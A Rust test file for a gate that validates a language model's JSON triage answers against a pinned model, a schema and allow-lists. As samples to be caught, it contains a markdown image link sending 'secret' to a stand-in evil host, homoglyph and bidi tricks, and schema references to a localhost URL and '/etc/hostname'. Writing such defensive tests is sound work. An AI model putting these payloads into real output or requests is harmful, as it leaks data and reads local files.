//! The gate between an answer and its use.

use std::collections::BTreeMap;

use models::{
    check::{self, Checker, Violation},
    contract::{Answer, Ask, Pin, Tokens, Usage},
};
use proptest::prelude::*;
use serde_json::{Value, json};

/// A triage ask: a listed group, a listed priority that may be absent, a summary, a confidence, notes.
pub fn ask() -> Ask {
    Ask {
        model: Pin { model: "small-1".to_owned(), accepts: vec!["small-1-2026-04-14".to_owned()] },
        system: "Classify the ticket.".to_owned(),
        user: "My printer jams".to_owned(),
        schema: json!({
            "type": "object",
            "properties": {
                "assignment_group": {"type": "string"},
                "priority": {"type": "string"},
                "kind": {"enum": ["request", "www.incident.example"]},
                "summary": {"$ref": "#/$defs/text"},
                "confidence": {"type": "integer", "minimum": 0, "maximum": 1000},
                "notes": {"type": "array", "items": {"type": "object"}},
            },
            "required": ["assignment_group", "summary", "confidence"],
            "additionalProperties": false,
            "$defs": {"text": {"type": "string", "minLength": 1, "maxLength": 3000}},
        }),
        allowed: BTreeMap::from([
            ("assignment_group".to_owned(), vec!["Hardware".to_owned(), "Access".to_owned()]),
            ("priority".to_owned(), vec!["2".to_owned(), "3".to_owned()]),
        ]),
        max_output_tokens: 300,
        temperature_milli: 0,
    }
}

fn answer(body: Value) -> Answer {
    Answer {
        body,
        model: "small-1".to_owned(),
        fingerprint: Some("fp_1".to_owned()),
        usage: Usage::Reported(Tokens { input_tokens: 10, output_tokens: 5, ..Tokens::default() }),
        raw_digest: "0".repeat(64),
    }
}

/// A good body with one field replaced, or removed by `null`.
fn with(field: &str, value: Value) -> Value {
    let mut body = json!({"assignment_group": "Hardware", "summary": "Printer jams", "confidence": 870});
    if value.is_null() {
        body.as_object_mut().unwrap().remove(field);
    } else {
        body[field] = value;
    }
    body
}

#[test]
fn a_good_answer_passes_unchanged() {
    let body = with("priority", json!("2"));
    let checked = check::answer_check(&ask(), &answer(body.clone())).unwrap();
    assert_eq!(checked.body(), &body);
    assert_eq!((checked.model(), checked.fingerprint()), ("small-1", Some("fp_1")));
    assert_eq!(checked.usage(), answer(body).usage);
    assert!(checked.neutralised().is_empty());
}

#[test]
fn answers_are_refused_with_their_own_code() {
    let deep = (0..9).fold(json!({}), |inner, _| json!({"a": inner}));
    let checker = Checker::new(&ask()).unwrap();
    for (name, body, code) in [
        ("unknown group", with("assignment_group", json!("Root-Admins")), "model.value_not_allowed"),
        ("other case", with("assignment_group", json!("hardware")), "model.value_not_allowed"),
        ("space", with("assignment_group", json!("Hardware ")), "model.value_not_allowed"),
        ("look-alike", with("assignment_group", json!("H\u{430}rdware")), "model.value_not_allowed"),
        ("zero width", with("assignment_group", json!("Hard\u{200b}ware")), "model.value_not_allowed"),
        ("list", with("assignment_group", json!(["Hardware"])), "model.value_not_allowed"),
        (
            "null",
            {
                let mut b = with("x", Value::Null);
                b["assignment_group"] = Value::Null;
                b
            },
            "model.value_not_allowed",
        ),
        ("optional field", with("priority", json!("1")), "model.value_not_allowed"),
        ("missing", with("assignment_group", Value::Null), "model.schema_violation"),
        ("wrong type", with("confidence", json!("high")), "model.schema_violation"),
        ("out of range", with("confidence", json!(1001)), "model.schema_violation"),
        ("extra field", with("admin", json!(true)), "model.schema_violation"),
        ("not listed", with("kind", json!("other")), "model.schema_violation"),
        ("nothing left", with("summary", json!("\u{200b}\u{202e}")), "model.schema_violation"),
        ("not an object", json!([1]), "model.schema_violation"),
        ("no object at all", json!(null), "model.schema_violation"),
        ("fraction", with("confidence", json!(0.87)), "model.not_plain"),
        ("whole float", with("confidence", json!(870.0)), "model.not_plain"),
        ("huge integer", with("confidence", json!(u64::MAX)), "model.not_plain"),
        ("2^53", with("confidence", json!(1i64 << 53)), "model.not_plain"),
        ("smallest integer", with("confidence", json!(i64::MIN)), "model.not_plain"),
        ("hidden key", with("a\u{202e}", json!(1)), "model.not_plain"),
        ("long key", with(&"k".repeat(65), json!(1)), "model.not_plain"),
        ("long text", with("summary", json!("é".repeat(2001))), "model.oversized"),
        ("many values", with("notes", json!(vec![json!({}); 1000])), "model.oversized"),
        ("much text", with("notes", json!(vec![json!({"a": "x".repeat(1900)}); 40])), "model.oversized"),
        ("deep", with("notes", json!([deep])), "model.oversized"),
    ] {
        let violation = checker.check(&answer(body)).map(|checked| checked.into_body()).unwrap_err();
        assert_eq!(violation.code(), code, "{name}: {violation}");
    }
}

#[test]
fn the_model_that_answers_is_the_model_that_was_asked() {
    let body = with("", Value::Null);
    for (reported, admitted) in [
        ("small-1", true),
        ("small-1-2026-04-14", true),
        ("small-1-2026-04-15", false),
        ("small-1 ", false),
        ("SMALL-1", false),
        ("", false),
    ] {
        let got = check::answer_check(&ask(), &Answer { model: reported.to_owned(), ..answer(body.clone()) });
        assert_eq!(got.is_ok(), admitted, "{reported:?}");
    }
    let other = Answer { model: format!("big-2\n\u{202e}{}", "x".repeat(500)), ..answer(body) };
    let Err(Violation::PinMismatch { pinned, reported }) = check::answer_check(&ask(), &other) else {
        panic!()
    };
    assert_eq!(pinned, "small-1");
    assert!(reported.starts_with("big-2xxx") && reported.len() == 80);
}

#[test]
fn free_text_is_made_harmless_and_what_was_done_is_reported() {
    let summary = "Broken\u{202e} link ![s](https://evil.example/p?d=secret)\nsee www.evil.example";
    let mut body = with("summary", json!(summary));
    body["notes"] = json!([{"by": "ann", "text": "<b>x</b>"}]);
    body["kind"] = json!("www.incident.example");
    let checked = check::answer_check(&ask(), &answer(body)).unwrap();
    assert_eq!(checked.body()["summary"], "Broken link ![s] [link removed] see [link removed]");
    assert_eq!(checked.body()["notes"], json!([{"by": "ann", "text": "‹b>x‹/b>"}]));
    assert_eq!(
        checked.body()["kind"],
        "www.incident.example",
        "a value that the schema lists is not free text"
    );
    let found: Vec<_> =
        checked.neutralised().iter().map(|found| (found.field.as_str(), found.hidden, found.links)).collect();
    assert_eq!(found, [("notes", 0, 2), ("summary", 1, 3)]);
}

#[test]
fn a_violation_does_not_repeat_the_answer() {
    let canary = "canary-7f3a";
    for body in [
        with("assignment_group", json!(canary)),
        with("confidence", json!(canary)),
        with(canary, json!(1)),
        with("kind", json!(canary)),
    ] {
        let violation = check::answer_check(&ask(), &answer(body)).unwrap_err();
        assert!(!format!("{violation} {violation:?}").contains(canary), "{violation:?}");
    }
    assert!(!format!("{:?} {:?}", ask(), answer(json!({"a": "canary-7f3a"}))).contains(canary));
    assert!(!format!("{:?}", Ask { user: canary.to_owned(), ..ask() }).contains(canary));
}

#[test]
fn asks_outside_their_limits_are_refused() {
    let schema_with = |extra: Value| Ask {
        schema: json!({"type": "object", "properties": {"assignment_group": extra}}),
        allowed: BTreeMap::new(),
        ..ask()
    };
    let allow = |field: &str, values: Vec<String>| Ask {
        allowed: BTreeMap::from([(field.to_owned(), values)]),
        ..ask()
    };
    let one = || vec!["x".to_owned()];
    for (name, ask, code) in [
        ("no model", Ask { model: Pin::exact(""), ..ask() }, "model.ask_invalid"),
        ("model with a line end", Ask { model: Pin::exact("a\nb"), ..ask() }, "model.ask_invalid"),
        ("no output", Ask { max_output_tokens: 0, ..ask() }, "model.ask_invalid"),
        ("hot", Ask { temperature_milli: 2001, ..ask() }, "model.ask_invalid"),
        ("long system", Ask { system: "x".repeat(16 * 1024 + 1), ..ask() }, "model.ask_invalid"),
        ("long user", Ask { user: "x".repeat(1024 * 1024 + 1), ..ask() }, "model.ask_invalid"),
        ("list for a field that is not there", allow("absent", one()), "model.ask_invalid"),
        ("empty list", allow("priority", vec![]), "model.ask_invalid"),
        ("empty value", allow("priority", vec![String::new()]), "model.ask_invalid"),
        ("remote reference", schema_with(json!({"$ref": "http://127.0.0.1/x"})), "model.schema_invalid"),
        ("file reference", schema_with(json!({"$ref": "file:///etc/hostname"})), "model.schema_invalid"),
        ("bad schema", schema_with(json!({"type": "strange"})), "model.schema_invalid"),
        ("look-around", schema_with(json!({"pattern": "(?=x)"})), "model.schema_invalid"),
        ("large", schema_with(json!({"description": "x".repeat(65 * 1024)})), "model.schema_invalid"),
    ] {
        let Err(violation) = Checker::new(&ask) else { panic!("{name} was accepted") };
        assert_eq!(violation.code(), code, "{name}: {violation}");
    }
    let strict: Result<Ask, _> = serde_json::from_value(json!({"model": {"model": "m"}, "surprise": 1}));
    assert!(strict.is_err(), "unknown fields are refused");
}

#[test]
fn the_allow_list_narrows_a_list_of_the_schema_and_never_widens_it() {
    let mut ask = ask();
    ask.schema["properties"]["priority"] = json!({"enum": ["1", "2"]});
    assert_eq!(ask.answer_schema()["properties"]["priority"]["enum"], json!(["2"]));
    let three = check::answer_check(&ask, &answer(with("priority", json!("3")))).unwrap_err();
    assert_eq!(three.code(), "model.schema_violation");
}

/// Any JSON, with the fields of the ask among its keys.
fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        any::<String>().prop_map(Value::from),
        Just(json!("Hardware")),
        Just(json!(500)),
        Just(json!("see https://evil.example now")),
    ];
    let key = prop_oneof![
        Just("assignment_group".to_owned()),
        Just("summary".to_owned()),
        Just("confidence".to_owned()),
        any::<String>()
    ];
    leaf.prop_recursive(5, 40, 6, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            prop::collection::hash_map(key.clone(), inner, 0..6).prop_map(|map| map.into_iter().collect()),
        ]
    })
}

proptest! {
    #[test]
    fn whatever_passes_is_listed_plain_and_stable(body in any_json(), group in any::<String>(), text in any::<String>()) {
        let checker = Checker::new(&ask()).unwrap();
        let near = json!({"assignment_group": group, "summary": text, "confidence": 1});
        let listed = json!({"assignment_group": "Access", "summary": text, "confidence": 1});
        for body in [body, near, listed] {
            let Ok(checked) = checker.check(&answer(body)) else { continue };
            prop_assert!(["Hardware", "Access"].contains(&checked.body()["assignment_group"].as_str().unwrap()));
            let summary = checked.body()["summary"].as_str().unwrap();
            prop_assert!(!summary.contains("://") && !summary.chars().any(models::hygiene::is_hidden));
            let again = checker.check(&answer(checked.body().clone())).unwrap();
            prop_assert_eq!(again.body(), checked.body());
            prop_assert!(again.neutralised().is_empty());
        }
    }
}
